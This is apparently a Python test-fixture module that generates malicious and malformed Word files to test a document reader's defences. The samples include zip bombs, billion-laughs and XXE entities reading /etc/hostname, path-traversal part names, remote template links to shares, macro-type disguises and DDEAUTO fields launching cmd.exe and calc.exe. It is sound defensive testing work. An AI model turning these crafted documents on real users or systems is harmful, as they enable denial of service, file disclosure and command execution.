"""Word files that attack, break or mislead, made on the spot: bytes by name."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Iterable, Mapping

from dpa_tracker.word.archive_bounds import MOST_MEMBERS
from dpa_tracker.word.package import read_package
from tests.word.rich_files import complex_field
from tests.word.word_files import MAIN, OFFICE, RELATIONS, SPACES, TYPES, block, docx, field, para, part, row, table

TEXT = "word/document.xml"
KINDS = "[Content_Types].xml"
TIES = "word/_rels/document.xml.rels"
GOOD = docx(para("Between ", field("controller.name"), " and {{ processor.name }}"))
MEMBERS: Mapping[str, bytes] = read_package(GOOD, "good").parts
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha ha ha ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>'
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY c SYSTEM "file:///etc/hostname">]>'
REMOTE = '<!DOCTYPE x SYSTEM "http://server.invalid/x.dtd">'


def zipped(members: Iterable[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive of members, two of one name too."""
    stream = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of two members of one name
        with zipfile.ZipFile(stream, "w", method) as archive:
            for name, content in members:
                archive.writestr(name, content)
    return stream.getvalue()


def with_parts(changed: Mapping[str, bytes | None]) -> bytes:
    """The good file with parts changed, added, or (None) left out."""
    parts = {name: content for name, content in {**MEMBERS, **changed}.items() if content is not None}
    return zipped(parts.items())


def with_body(body: str, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The good file with another body."""
    text = f"<w:document {SPACES}><w:body>{body}<w:sectPr/></w:body></w:document>"
    return zipped({**MEMBERS, TEXT: text.encode()}.items(), method)


def with_types(old: str, new: str) -> bytes:
    """The good file that says it is of another kind."""
    return with_parts({KINDS: MEMBERS[KINDS].decode().replace(old, new).encode()})


def before_root(part: str, declaration: str, inside: str = "&c;") -> bytes:
    """A part with a document type before its root, and an entity of it inside."""
    text = MEMBERS[part].decode()
    cut = text.index("?>") + 2 if text.startswith("<?xml") else 0
    root_end = text.rindex("</")
    return with_parts({part: (declaration + text[cut:root_end] + inside + text[root_end:]).encode()})


def tied(*ties: str) -> bytes:
    """The good file with further relationships of its text."""
    old = MEMBERS[TIES].decode()
    return with_parts({TIES: old.replace("</Relationships>", "".join(ties) + "</Relationships>").encode()})


def tie(kind: str, target: str, *, external: bool = False, identity: str = "rX") -> str:
    """A relationship, to something inside the file or outside of it."""
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{identity}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'


def patched(content: bytes, offset: int, value: bytes, signature: bytes = b"PK\x01\x02") -> bytes:
    """An archive with bytes of every record of a kind (its directory, unless said otherwise) replaced."""
    at, changed = content.find(signature), bytearray(content)
    while at >= 0:
        changed[at + offset : at + offset + len(value)] = value
        at = content.find(signature, at + 4)
    return bytes(changed)


def lying_about_sizes() -> bytes:
    """Every member is declared to be ten bytes long."""
    return patched(with_parts({"word/media/x.bin": b"\0" * 3_000_000}), 24, struct.pack("<L", 10))


def overlapping() -> bytes:
    """One packed member that the directory lists ninety times over: what is small claims to be large."""
    content = zipped([(f"w/{n:03}", b"\0" * 900_000 if n == 0 else b"") for n in range(90)])
    at, changed = content.find(b"PK\x01\x02"), bytearray(content)
    first = content[at + 16 : at + 28]  # checksum and both sizes
    while at >= 0:
        changed[at + 16 : at + 28] = first
        changed[at + 42 : at + 46] = struct.pack("<L", 0)
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


def named(name: str) -> bytes:
    """The good file with one more part of a name; zeros are written where the name has a tilde."""
    raw = zipped([*MEMBERS.items(), (name, b"x")])
    return raw.replace(name.encode(), name.replace("~", "\0").encode()) if "~" in name else raw


def encrypted_member() -> bytes:
    """Every member is marked as encrypted."""
    return patched(patched(GOOD, 8, b"\x01\x00"), 6, b"\x01\x00", b"PK\x03\x04")


def nested(depth: int, tag: str = "w:sdtContent") -> str:
    """Elements inside elements."""
    return f"<{tag}>" * depth + f"</{tag}>" * depth


def template_link(target: str) -> bytes:
    """A file whose settings are tied to a template elsewhere."""
    settings = f"<w:settings {SPACES}><w:attachedTemplate r:id='rT'/></w:settings>"
    outside = tie("attachedTemplate", target, external=True, identity="rT")
    return with_parts(
        {
            "word/settings.xml": settings.encode(),
            "word/_rels/settings.xml.rels": f'<Relationships xmlns="{RELATIONS}">{outside}</Relationships>'.encode(),
        }
    )


SERVERS = (
    "http://server.invalid/t.dotm",
    "https://server.invalid/t.dotm",
    "\\\\server\\share\\t.dotm",
    "//server/share/t.dotm",
    "file://server/share/t.dotm",
    "file:////server/share/t.dotm",
    "FILE:///\\\\server\\share\\t.dotm",
    "%5C%5Cserver%5Cshare%5Ct.dotm",
    "mhtml:http://server.invalid/x!y",
)

# Each is refused by every command that reads a Word file.
REFUSED: dict[str, bytes] = {
    "no bytes": b"",
    "text": b"hello",
    "a zip that is none": b"PK\x03\x04 not really",
    **{f"cut at {tenth} tenths": GOOD[: len(GOOD) * tenth // 10] for tenth in range(1, 10)},
    "cut at the end": GOOD[:-3],
    "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2_000,
    "encrypted members": encrypted_member(),
    "docm by type": with_types("document.main", "document.macroEnabled.main"),
    "docm by part": with_parts({"word/vbaProject.bin": b"x"}),
    "docm by type in letters of their own": with_types(
        f'ContentType="{MAIN}"', f'ContentType="{MAIN.replace("document.main", "document.macro&#69;nabled.main")}"'
    ),
    "docm beside a type that is allowed": with_types(
        "</Types>", '<Override PartName="/x" ContentType="application/x.macroEnabled.main+xml"/></Types>'
    ),
    "macros in a part of another name": with_types(
        "</Types>", '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    ),
    "strict": zipped(
        (name, content.replace(OFFICE.encode(), b"http://purl.oclc.org/ooxml/officeDocument/relationships"))
        for name, content in MEMBERS.items()
    ),
    "spreadsheet": with_types("wordprocessingml.document.main", "spreadsheetml.sheet.main"),
    "bomb by ratio": with_parts({"word/media/x.bin": b"\0" * 3_000_000}),
    "bomb of small members": zipped([*MEMBERS.items(), *((f"w/{n}", b"\0" * 990_000) for n in range(40))]),
    "bomb of elements": with_body("<w:p/>" * 4_100_000),
    "bomb that lies": lying_about_sizes(),
    "bomb of members": zipped([(f"{n}.xml", b"") for n in range(MOST_MEMBERS + 1)]),
    "bomb of overlapping members": overlapping(),
    "packed by another method": zipped(MEMBERS.items(), zipfile.ZIP_LZMA),
    "no types": with_parts({KINDS: None}),
    "no text": with_parts({TEXT: None}),
    "no relationships": with_parts({"_rels/.rels": None}),
    "text of another kind": with_parts({TEXT: b"<x/>"}),
    "text not well-formed": with_parts({TEXT: b"<w:document"}),
    "text in another encoding": with_parts({TEXT: b"<w:document>\xff\xfe\xe5</w:document>"}),
    "text with zeros": with_parts({TEXT: b"\0\0\0\0"}),
    "types with entities": before_root(KINDS, LAUGHS),
    "the same part twice": zipped([*MEMBERS.items(), (TEXT, MEMBERS[TEXT])]),
    "the same part in other letters": zipped([*MEMBERS.items(), (TEXT.upper(), MEMBERS[TEXT])]),
    "laughs": before_root(TEXT, LAUGHS),
    "entity of a file": before_root(TEXT, OUTSIDE),
    "document type on a server": before_root(TEXT, REMOTE, ""),
    "relationships with entities": before_root(TIES, LAUGHS, ""),
    "relationships not well-formed": with_parts({TIES: b"<Relationships"}),
    "deep": with_body(nested(100_000)),
    "deep controls": with_body(nested(1_000, "w:sdt")),
    "part name upwards": named("word/../../../evil.xml"),
    "part name absolute": named("/etc/evil.xml"),
    "part name with a drive": named("C:/evil.xml"),
    "part name with a backslash": named("word\\evil.xml"),
    "part name with a zero": named("word/evil~.xml"),
    "part name without end": named("word/" + "x" * 20_000),
    **{f"template at {target}": template_link(target) for target in SERVERS},
    "a megabyte in a paragraph": with_body(para("x " * 500_000), zipfile.ZIP_STORED),
    "a megabyte of half marks": with_body(para("{{ [ « {% " * 100_000), zipfile.ZIP_STORED),
    "a megabyte of placeholders": with_body(para("{{ controller.name }} and [x] " * 34_000), zipfile.ZIP_STORED),
    "picture on a server": tied(tie("image", "http://server.invalid/x.png", external=True)),
    "object on a share": tied(tie("oleObject", "\\\\server\\x.doc", external=True)),
}

FETCHES: dict[str, bytes] = {
    **{
        name: with_body(para("see ", complex_field(f'{name} "\\\\\\\\server\\\\share\\\\x.docx"', "old")))
        for name in ("INCLUDETEXT", "INCLUDEPICTURE", "LINK", "DATABASE", "IMPORT", "RD")
    },
    "DDEAUTO": with_body(para(complex_field('DDEAUTO c:\\\\Windows\\\\cmd.exe "/k calc.exe"', "x"))),
    "DDE over two runs": with_body(
        para(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> D</w:instrText></w:r>'
            "<w:r><w:instrText>DE cmd</w:instrText></w:r>"
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        )
    ),
    "DDE in a comment": with_parts(
        {
            "word/comments.xml": part(
                "comments", f'<w:comment w:id="0">{para(complex_field("DDE cmd", "x"))}</w:comment>'
            ).encode(),
            TIES: MEMBERS[TIES].replace(b"</R", tie("comments", "comments.xml").encode() + b"</R"),
        }
    ),
    "a name that another field makes up": with_body(
        para(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
            complex_field("QUOTE 68 68 69", "DDE"),
            '<w:r><w:instrText> cmd "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
        )
    ),
    "DDE never ended": with_body(
        para('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>ddeauto cmd</w:instrText></w:r>')
    ),
    "simple": with_body(para('<w:fldSimple w:instr=" includetext file "><w:r><w:t>x</w:t></w:r></w:fldSimple>')),
}

LIST = (
    f"<w:numbering {SPACES}><w:abstractNum w:abstractNumId='x'><w:lvl w:ilvl='77'><w:start w:val='99999999999'/>"
    "<w:numFmt w:val='lowerRoman'/><w:lvlText w:val='%1.%9'/></w:lvl><w:lvl w:ilvl='0'><w:start w:val='2000000000'/>"
    "<w:numFmt w:val='lowerLetter'/><w:lvlText w:val='%1'/></w:lvl></w:abstractNum><w:num w:numId='1'>"
    "<w:abstractNumId w:val='x'/></w:num><w:num w:numId='\u00b2'/><w:num/></w:numbering>"
)
LISTED = '<w:numPr><w:ilvl w:val="{}"/><w:numId w:val="{}"/></w:numPr>'
BOX = (
    '<w:sdt><w:sdtPr><w:tag w:val="service.criminal_data"/><w:id w:val="--5"/><w14:checkbox><w14:checked '
    'w14:val="maybe"/><w14:checkedState w14:val="{0}"/><w14:uncheckedState w14:val="{0}"/></w14:checkbox></w:sdtPr>'
    "<w:sdtContent><w:r><w:t>x</w:t></w:r></w:sdtContent></w:sdt>"
)

# Odd, and still Word files: each is read, or refused in one line.
ODD: dict[str, bytes] = {
    "relationships in circles": tied(
        tie("header", "document.xml", identity="r1"), tie("footer", "document.xml", identity="r2")
    ),
    "relationships outside": tied(
        tie("header", "../../../../etc/passwd"), tie("footer", "/etc/passwd"), tie("styles", "..\\..\\x")
    ),
    "relationships without targets": tied("<Relationship/>", f'<Relationship Type="{OFFICE}/header"/>'),
    "relationship to a folder": tied(tie("header", ".")),
    "header that is no XML": with_parts(
        {
            "word/header9.xml": b"\x89PNG",
            TIES: MEMBERS[TIES].replace(b"</R", tie("header", "header9.xml").encode() + b"</R"),
        }
    ),
    "core that is no XML": with_parts({"docProps/core.xml": b"{ not XML"}),
    "styles with entities": before_root("word/styles.xml", LAUGHS),
    "template on this machine": template_link("file:///C:/Users/x/Normal.dotm"),
    "UTF-16": with_parts({TEXT: MEMBERS[TEXT].decode().encode("utf-16")}),
    "numbers that are none": with_parts(
        {
            "word/numbering.xml": LIST.encode(),
            TIES: MEMBERS[TIES].replace(b"</R", tie("numbering", "numbering.xml", identity="rN").encode() + b"</R"),
            TEXT: (
                f"<w:document {SPACES}><w:body>"
                + "".join(
                    para("n", field("controller.name"), properties=LISTED.format(level, identity))
                    for level, identity in (("0", "1"), ("x", "1"), ("99", "1"), ("-1", "\u00b2"), ("\u00b2", "y"))
                )
                + "".join(para(BOX.format(sign)) for sign in ("zz", "FFFFFFFFFF", "D800", "0", "2612"))
                + "</w:body></w:document>"
            ).encode(),
        }
    ),
    "unbalanced": with_body(
        para("{{ a", field("if:transfers"), "}} {{ {% «", field("each:"), field("if:not:=")) + para("}}")
    ),
    "controls of no content": with_body("<w:sdt/><w:sdt><w:sdtPr/></w:sdt>" + block("if:transfers")),
    "controls in the wrong places": with_body(
        table(block("each:sub_processors", block("sub_processors.name", row(para("x")))))
        + para(block("controller.name", "<w:tbl/>"))
    ),
    "patterns of other hands": with_body(
        "<w:sdt><w:sdtPr xmlns:d='urn:dpa-tracker:word' d:pattern='AAAA'><w:tag w:val='each:sub_processors'/></w:sdtPr>"
        f"<w:sdtContent>{para('x')}</w:sdtContent></w:sdt>"
    ),
    "a paragraph as long as may be": with_body(para("x y " * 20_000), zipfile.ZIP_STORED),
    "a paragraph of placeholders": with_body(para("{{ controller.name }} and [x] " * 3_000), zipfile.ZIP_STORED),
    "a paragraph of half marks": with_body(para("{{ [ « {% " * 9_000), zipfile.ZIP_STORED),
    "many paragraphs with placeholders": with_body(para("{{ controller.name }} and {{ y }}") * 900),
    "a field in a thousand rows": with_body(table(*(row(para(field("controller.name"))) for _ in range(1_000)))),
    "fields that never end": with_body(para('<w:r><w:fldChar w:fldCharType="begin"/></w:r>') * 1_000),
    "tags without end": with_body(para(field("controller." + "x" * 100_000), field("if:" + "a.b" * 10_000))),
    "types in another order": with_parts(
        {KINDS: f'<Types xmlns="{TYPES}"><Override ContentType="{MAIN}" PartName="/{TEXT}"/></Types>'.encode()}
    ),
}
